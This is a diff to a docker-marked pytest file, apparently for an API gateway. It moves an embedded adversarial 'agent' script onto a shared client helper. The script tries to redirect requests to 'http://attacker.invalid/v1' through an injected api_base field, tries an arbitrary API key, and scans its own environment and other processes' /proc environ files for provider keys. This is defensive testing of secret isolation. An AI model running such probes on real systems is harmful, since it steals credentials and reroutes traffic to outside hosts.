@@ -14,7 +14,7 @@ from pathlib import Path
 
 import pytest
 
-from support import AGENTS, add_agent
+from support import AGENTS, GATEWAY_CLIENT, add_agent
 
 pytestmark = pytest.mark.docker
 
@@ -34,19 +34,11 @@ def grade(outputs):
 """
 
 # The agent: asks the gateway as a client library would, then looks for any provider key it can find.
-AGENT = r'''
-import glob, json, os, re, subprocess, sys, urllib.request, urllib.error
-base, token = os.environ["OPENAI_BASE_URL"], os.environ["OPENAI_API_KEY"]
-def post(body, key=token, path="/chat/completions"):
-    request = urllib.request.Request(base + path, json.dumps(body).encode(),
-                                     {"Authorization": "Bearer " + key, "Content-Type": "application/json"})
-    try:
-        with urllib.request.urlopen(request, timeout=60) as answer:
-            return answer.status, answer.read().decode()
-    except urllib.error.HTTPError as e:
-        return e.code, e.read().decode()
+AGENT = GATEWAY_CLIENT + r'''
+import glob, re, subprocess, sys
 def ask(text, **extra):
-    return post(dict({"model": "openai/gpt-4o", "messages": [{"role": "user", "content": text}]}, **extra))
+    return post("/chat/completions", dict({"model": "openai/gpt-4o", "messages": [{"role": "user", "content": text}]},
+                                          **extra))
 questions = sys.argv[1:] or ["question one", "question two", "question three"]
 status, body = ask(questions[0])
 print("ANSWER1", status, json.loads(body)["choices"][0]["message"]["content"] if status == 200 else body)
@@ -57,7 +49,7 @@ if len(questions) > 2:
     status, body = ask(questions[2])
     print("ANSWER3", status, body.replace("\n", " "))
 print("INJECT", *ask("x", api_base="http://attacker.invalid/v1"))
-print("OTHERKEY", post({"model": "openai/gpt-4o", "messages": []}, key="sk-anything")[0])
+print("OTHERKEY", post("/chat/completions", {"model": "openai/gpt-4o", "messages": []}, key="sk-anything")[0])
 seen = "\n".join(f"{k}={v}" for k, v in os.environ.items())
 for path in glob.glob("/proc/[0-9]*/environ"):
     try:
